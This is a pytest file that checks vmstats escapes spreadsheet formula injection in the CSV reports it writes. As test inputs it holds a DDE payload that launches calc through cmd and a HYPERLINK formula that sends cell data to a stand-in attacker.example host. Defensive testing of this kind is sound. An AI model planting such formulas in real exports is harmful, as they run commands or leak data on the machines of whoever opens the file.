"""Text from the operator's files never becomes a spreadsheet formula in a CSV vmstats writes.

A policy group name, an exclusion reason, a price book's size name and currency and an
inventory's host name that each begin as a formula (``=``, ``+``, ``-``, ``@``, a tab, a
carriage return) go through the real ``report``, ``backtest`` and ``headroom`` commands; every
CSV they write is read back: the text arrives whole behind a ``'`` (a spreadsheet shows it as
text), numbers stay numbers (an upsize's negative saving too), and report.json keeps the text
as it was.  backtest.csv and the simulator's truth file, which no operator text reaches today,
are written with hostile cells by their own writers and read back the same way.
"""

import csv
import json
import subprocess
import sys
from types import SimpleNamespace

import numpy as np
import pytest
from test_report_stats import T0, series, write_records

from vmstats.csvcells import FORMULA_STARTS, cell
from vmstats.report import backtest_outputs
from vmstats.simulator import fleet as fleet_mod

GROUP = "-2+3+cmd|' /C calc'!A0"
REASON = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
SIZE = "+SUM(1,1)"
CURRENCY = "@EUR"
HOST = "=1+2"  # a name with a tab first, which some spreadsheets strip, is refused by the inventory
DAYS = 3


def run(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "vmstats", *map(str, args)], capture_output=True, text=True,
                          timeout=180)


def read_csv(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def toml_text(value: str) -> str:
    return json.dumps(value)  # a JSON string of these characters is a TOML basic string


def no_formula(rows: list[dict[str, str]], where: str) -> int:
    """Every cell either begins with no formula character or is exactly a number; the numbers
    that begin with a sign are counted (they must stay numbers, not be quoted)."""
    signed = 0
    for row in rows:
        for column, value in row.items():
            if value.startswith(FORMULA_STARTS):
                float(value)  # a number, written as one: -12.5
                signed += 1
            assert not value.startswith("'") or value[1:].startswith(FORMULA_STARTS), (where, column, value)
    return signed


@pytest.fixture(scope="module")
def inputs(tmp_path_factory):
    """A small fleet's logs and the operator's four files, each with one hostile name."""
    root = tmp_path_factory.mktemp("cells")
    data = root / "data"
    ts = T0 + 60 * np.arange(DAYS * 1440)
    flat = np.ones(len(ts))
    write_records(data, series("idle-1", ts, 1.0 * flat, 10.0 * flat, net=100.0 * flat))
    write_records(data, series("hot-1", ts, 99.0 * flat, 50.0 * flat, net=1e6 * flat))
    write_records(data, series("web-1", ts, 30.0 + 20.0 * (np.arange(len(ts)) % 7 == 0), 40.0 * flat,
                               net=1e6 * flat))
    policy = root / "policy.toml"
    policy.write_text("min_days = 0\n[[groups]]\nname = %s\nmatch = [\"web-*\"]\n" % toml_text(GROUP))
    exclusions = root / "exclusions.toml"
    exclusions.write_text('[[exclude]]\nvm = "idle-*"\nreason = %s\n' % toml_text(REASON))
    prices = root / "prices.toml"
    prices.write_text(
        "currency = %s\nminor_unit = 2\nvcpu_hour = 0.0305\ngb_ram_hour = 0.0045\n"
        "[[sizes]]\nname = %s\nvcpus = 4\nmemory_gb = 16\nhourly = 0.2\n"
        % (toml_text(CURRENCY), toml_text(SIZE))
    )
    inventory = root / "hosts.toml"
    inventory.write_text("[[host]]\nname = %s\nvcpus = 64\nmem_gb = 256\nvms = [\"*-1\"]\n" % toml_text(HOST))
    return SimpleNamespace(root=root, data=data, policy=policy, exclusions=exclusions, prices=prices,
                           inventory=inventory)


def test_report_and_statement_quote_the_operator_s_text(inputs, tmp_path):
    out = tmp_path / "out"
    done = run("report", inputs.data, "-o", out, "--policy", inputs.policy, "--exclusions", inputs.exclusions,
               "--prices", inputs.prices, "--inventory", inputs.inventory, "--by", "host", "--days", DAYS,
               "--no-cache")
    assert done.returncode == 0, done.stderr
    rows = read_csv(out / "report.csv")
    by_vm = {row["vm"]: row for row in rows}
    assert by_vm["web-1"]["group"] == "'" + GROUP
    assert by_vm["idle-1"]["excluded_reason"] == "'" + REASON
    assert by_vm["idle-1"]["reason"].startswith("excluded: " + REASON)  # inside a sentence: no formula
    hot = by_vm["hot-1"]
    assert hot["category"] == "upsize" and hot["recommended_size"] == "'" + SIZE
    assert float(hot["monthly_saving"]) < 0 and not hot["monthly_saving"].startswith("'")  # a number
    assert {row["host"] for row in rows} == {"'" + HOST}
    assert {row["currency"] for row in rows} == {"'" + CURRENCY}
    assert no_formula(rows, "report.csv") >= 1  # the negative saving, written as a number

    lines = read_csv(out / "statement.csv")
    assert [(line["value"], line["currency"]) for line in lines] == [("'" + HOST, "'" + CURRENCY)]
    assert float(lines[0]["upsize_extra_cost"]) == -float(hot["monthly_saving"])
    no_formula(lines, "statement.csv")

    # JSON is no spreadsheet: the names as the operator wrote them.
    document = json.loads((out / "report.json").read_text())
    vms = {v["vm"]: v for v in document["vms"]}
    assert vms["web-1"]["group"] == GROUP and vms["idle-1"]["excluded_reason"] == REASON
    assert vms["hot-1"]["recommended_size"] == SIZE and vms["hot-1"]["host"] == HOST
    assert document["meta"]["prices"]["currency"] == CURRENCY


def test_headroom_quotes_an_inventory_host_name(inputs, tmp_path):
    out = tmp_path / "out"
    done = run("headroom", inputs.data, "--inventory", inputs.inventory, "--profile", "2x4@30%", "-o", out,
               "--days", DAYS, "--policy", inputs.policy, "--prices", inputs.prices)
    assert done.returncode == 0, done.stderr
    rows = read_csv(out / "headroom.csv")
    assert [row["host"] for row in rows] == ["'" + HOST]
    assert rows[0]["vms"] == "3"
    no_formula(rows, "headroom.csv")
    assert json.loads((out / "headroom.json").read_text())["hosts"][0]["host"] == HOST


def test_backtest_csv_quotes_text_and_keeps_negative_numbers(inputs, tmp_path):
    out = tmp_path / "out"
    done = run("backtest", inputs.data, "-o", out, "--policy", inputs.policy, "--exclusions",
               inputs.exclusions, "--prices", inputs.prices, "--decide-days", "2", "--judge-days", "1",
               "--no-cache")
    assert done.returncode == 0, done.stderr
    rows = read_csv(out / "backtest.csv")
    assert {row["vm"] for row in rows} == {"idle-1", "hot-1", "web-1"}
    no_formula(rows, "backtest.csv")
    assert no_formula(read_csv(out / "decision" / "report.csv"), "decision/report.csv") >= 1

    # No operator text starts a backtest.csv cell today; its writer is held to the rule all the same.
    row = {c: None for c in backtest_outputs.BACKTEST_COLUMNS}
    row.update(vm="hot-1", category="upsize", outcome="held", detail=REASON, monthly_cost=12.5,
               monthly_saving=-3.25, recommendation=SIZE, quiet_in_both=False)
    path = tmp_path / "backtest.csv"
    backtest_outputs.write_csv(SimpleNamespace(rows=[row]), str(path))
    (written,) = read_csv(path)
    assert (written["detail"], written["recommendation"]) == ("'" + REASON, "'" + SIZE)
    assert (written["monthly_saving"], written["quiet_in_both"], written["blocked_by"]) == ("-3.25", "no", "")


def test_the_simulator_s_truth_file_quotes_its_text():
    vm = SimpleNamespace(vm="@vm", vcpus=2, mem_mb=-1, profile=GROUP, expected="=idle")
    (row,) = csv.DictReader(fleet_mod.truth_csv([vm]).splitlines())
    assert list(row.values()) == ["'@vm", "2", "-1", "'" + GROUP, "'=idle"]


@pytest.mark.parametrize(
    "value, written",
    [("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
     ("\r=1", "'\r=1"), ("-", "'-"), ("a=1", "a=1"), ("", ""), (None, ""), (float("nan"), ""),
     (-12.5, -12.5), (-3, -3), ("-12.5", "-12.5"), ("+7", "+7"), ("-1e5", "-1e5"), ("'=1", "'=1")],
)
def test_a_cell_is_quoted_only_when_a_spreadsheet_would_run_it(value, written):
    assert cell(value) == written
